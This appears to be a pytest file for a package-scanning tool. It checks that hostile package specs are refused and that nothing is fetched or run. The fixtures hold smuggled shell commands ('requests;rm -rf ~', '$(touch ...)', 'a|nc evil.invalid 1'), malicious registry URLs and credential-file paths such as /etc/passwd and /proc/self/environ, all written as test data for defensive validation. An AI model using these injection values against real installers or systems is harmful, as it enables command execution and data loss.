"""Hostile names and arguments (issue #8.7): option injection, shell metacharacters, paths
posing as names, confusable Unicode, overlong names. Each is refused by parse_spec, exits 2 in
the CLI with a clear message, gets an error reply from the host, and nothing is fetched or run.
"""

from __future__ import annotations

import importlib.util
import os
import socket
import stat
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from slopspotter_lab.ecosystems import parse_spec, validate_name
from slopspotter_lab.errors import InputError

ROOT = Path(__file__).resolve().parents[2]

# (text, ecosystem, a word the error message must contain)
HOSTILE = [
    ("--index-url=http://evil.invalid/simple", "pypi", "option"),
    ("-e", "pypi", "option"),
    ("-egit+https://evil.invalid/x.git", "pypi", "option"),
    ("--extra-index-url", "pypi", "option"),
    ("--registry=http://evil.invalid", "npm", "option"),
    ("requests==--pre", "pypi", "option"),
    ("left-pad@--ignore-scripts=false", "npm", "option"),
    ("requests;rm -rf ~", "pypi", "package name"),
    ("$(touch /tmp/slop-pwned)", "pypi", "$"),
    ("`id`", "pypi", "`"),
    ("a|nc evil.invalid 1", "pypi", "whitespace"),
    ("a&&b", "pypi", "&"),
    ("requests[security]", "pypi", "[]"),
    ("requests @ https://evil.invalid/r.whl", "pypi", "package name"),
    ("git+https://evil.invalid/r.git", "pypi", "package name"),
    ("foo@http://evil.invalid/a.tgz", "npm", "package name"),
    ("foo@npm:bar", "npm", "version"),
    ("foo@file:../x", "npm", "package name"),
    ("github:user/repo", "npm", "package name"),
    ("requests>=2", "pypi", "range"),
    ("foo@^1.0", "npm", "version"),
    ("req\u03c5ests", "pypi", "U+03C5"),  # Greek upsilon
    ("\uff52equests", "pypi", "U+FF52"),  # fullwidth r
    ("requests\u200b", "pypi", "U+200B"),  # zero-width space
    ("\ufb01le", "pypi", "U+FB01"),  # fi ligature
    ("re\x00quests", "pypi", "control"),
    ("re\x1b[31mquests", "pypi", "control"),
    ("a" * 215, "pypi", "limit"),
    ("a" * 100_000, "npm", "limit"),
    ("..", "pypi", "not a valid"),
    ("@scope/../x", "npm", "not a valid"),
    ("node_modules", "npm", "reserved"),
]

# Paths posing as names: they exist on every Linux machine but are not package artifacts.
HOSTILE_PATHS = ["/etc/passwd", "../../../../etc/passwd", "/proc/self/environ", "~root", "/etc",
                 "/dev/null", "~no-such-user-slop/x", "a/" * 5000, "./\x00x", "x" * 5000 + ".whl"]


@pytest.mark.parametrize("text,eco,word", HOSTILE)
def test_parse_spec_refuses(text, eco, word):
    with pytest.raises(InputError) as err:
        parse_spec(text, eco)
    assert word.lower() in str(err.value).lower()
    with pytest.raises(InputError):
        parse_spec(text, eco, allow_path=False)


@pytest.mark.parametrize("text", HOSTILE_PATHS)
def test_paths_posing_as_names_are_refused(text):
    """Only archives and source trees with a manifest are local artifacts; never an OSError."""
    for eco in ("pypi", "npm"):
        with pytest.raises(InputError) as err:
            parse_spec(text, eco)
        assert "\x00" not in str(err.value) and "\n" not in str(err.value)


def test_symlinked_archive_name_does_not_smuggle_a_file(tmp_path):
    link = tmp_path / "innocent-1.0.tar.gz"
    link.symlink_to("/etc/passwd")
    with pytest.raises(InputError, match="not a package archive"):
        parse_spec(str(link), "pypi")


def test_real_local_artifacts_still_pass(tmp_path):
    src = tmp_path / "pkg"
    src.mkdir()
    (src / "pyproject.toml").write_text("[project]\nname='pkg'\n")
    assert parse_spec(str(src), "pypi").path == src.resolve()
    with pytest.raises(InputError, match="package.json"):
        parse_spec(str(src), "npm")
    tgz = tmp_path / "pkg-1.0.0.tgz"
    tgz.write_bytes(b"")
    assert parse_spec(str(tgz), "npm").is_local


def test_valid_names_are_not_overblocked():
    for text, eco in [("requests", "pypi"), ("zope.interface==5.0", "pypi"), ("a", "pypi"),
                      ("@types/node@20.1.0", "npm"), ("left-pad@latest", "npm"), ("x" * 214, "npm")]:
        parse_spec(text, eco)


# --- the CLI: exit 2, clear message, nothing fetched, nothing run -------------------------


class _Recorder(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802 - http.server API
        type(self).hits.append(self.path)
        self.send_response(404)
        self.end_headers()

    do_POST = do_HEAD = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture
def tripwires(tmp_path):
    """A loopback registry that records every request, a fake Docker socket that records every
    connection, and PATH shims for installers and shells that record every invocation."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    _Recorder.hits = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    sock_path = tmp_path / "docker.sock"
    dsock = socket.socket(socket.AF_UNIX)
    dsock.bind(str(sock_path))
    dsock.listen(8)
    dsock.settimeout(0.05)
    shims = tmp_path / "bin"
    shims.mkdir()
    ran = tmp_path / "ran.log"
    for tool in ("pip", "pip3", "npm", "node", "docker", "runsc", "sh", "bash", "curl", "wget", "git", "strace"):
        shim = shims / tool
        shim.write_text(f"#!/bin/sh\necho {tool} \"$@\" >> {ran}\nexit 97\n")
        shim.chmod(shim.stat().st_mode | stat.S_IEXEC)
    url = f"http://127.0.0.1:{server.server_address[1]}"
    env = dict(os.environ, PATH=f"{shims}:{os.environ['PATH']}", DOCKER_HOST=f"unix://{sock_path}",
               SLOPSPOTTER_PYPI_URL=url, SLOPSPOTTER_PYPI_SIMPLE_URL=url + "/simple",
               SLOPSPOTTER_NPM_URL=url, SLOPSPOTTER_CACHE_DIR=str(tmp_path / "cache"))

    def docker_connections() -> int:
        n = 0
        while True:
            try:
                dsock.accept()[0].close()
                n += 1
            except OSError:
                return n

    yield env, _Recorder.hits, docker_connections, ran
    server.shutdown()
    dsock.close()


def _cli(env, *argv):
    return subprocess.run([sys.executable, "-m", "slopspotter_lab", *argv], env=env, cwd=ROOT,
                          capture_output=True, text=True, timeout=60)


CLI_CASES = [
    ["scan", "--", "--index-url=http://evil.invalid/simple"],
    ["scan", "--backend", "docker", "--", "-e"],
    ["scan", "$(touch /tmp/slop-pwned)"],
    ["scan", "requests;id"],
    ["scan", "req\u03c5ests"],
    ["scan", "/etc/passwd"],
    ["scan", "a" * 5000],
    ["scan", "--ecosystem", "npm", "foo@http://evil.invalid/a.tgz"],
    ["scan", "--ecosystem", "npm", "left-pad", "--version", "--registry=http://evil.invalid"],
    ["scan", "--ecosystem", "npm", "@scope/../../x"],
    ["check", "--", "-e", "requests"],
    ["check", "--ecosystem", "npm", "foo;id"],
]


@pytest.mark.parametrize("argv", CLI_CASES, ids=lambda a: " ".join(a)[:40])
def test_cli_exit_2_nothing_fetched_nothing_run(argv, tripwires):
    module = {"scan": "slopspotter_lab.scan", "check": "slopspotter_lab.check"}[argv[0]]
    if importlib.util.find_spec(module) is None:
        pytest.skip(f"{module} is not in the tree yet")
    env, hits, docker_connections, ran = tripwires
    out = _cli(env, *argv)
    assert out.returncode == 2, (out.returncode, out.stderr[-500:])
    assert "error:" in out.stderr and len(out.stderr) < 2000
    assert "\x1b" not in out.stderr and "Traceback" not in out.stderr
    assert hits == [], f"registry was asked: {hits}"
    assert docker_connections() == 0, "the Docker engine was contacted"
    assert not ran.exists(), f"something was run: {ran.read_text()}"
    assert not Path("/tmp/slop-pwned").exists()


# --- the native host: an error reply, and the scan function is never called -----------------


@pytest.mark.parametrize("text,eco,_word", HOSTILE + [(p, "pypi", "") for p in HOSTILE_PATHS[:4]])
def test_host_deep_scan_refuses(text, eco, _word, monkeypatch):
    messages = pytest.importorskip("slopspotter_lab.host.messages")
    called = []
    monkeypatch.setattr(messages, "scan_function", lambda: lambda *a, **k: called.append(a))
    language = "Python" if eco == "pypi" else "JavaScript"
    reply = messages.run_deep_scan(text, language, timeout=5)
    assert reply["success"] is False and reply["error"]
    assert called == []


def test_validate_name_never_accepts_a_path():
    for text in HOSTILE_PATHS[:4]:
        with pytest.raises(InputError):
            validate_name(text, "pypi")
